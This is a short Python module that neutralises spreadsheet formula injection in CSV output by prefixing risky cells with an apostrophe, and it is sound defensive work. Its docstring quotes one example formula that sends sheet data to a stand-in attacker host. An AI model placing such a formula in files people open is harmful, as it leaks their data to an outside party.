"""The one guard for cells of CSV files people open in a spreadsheet.

A cell that starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and Google
Sheets (`=HYPERLINK("https://evil.example/?"&A1, "click")` sends the sheet's data away), and
one that starts with a tab or a carriage return is read as a formula after the spreadsheet
trims it. Such a cell is written with a leading apostrophe, which spreadsheets show as text
(OWASP, "CSV Injection"). Every CSV the project writes, public or newsroom, goes through
`safe_cell`.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell[T](value: T) -> T | str:
    """`value` as a CSV cell no spreadsheet runs: text that could start a formula is quoted
    with an apostrophe; anything else (numbers, plain text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
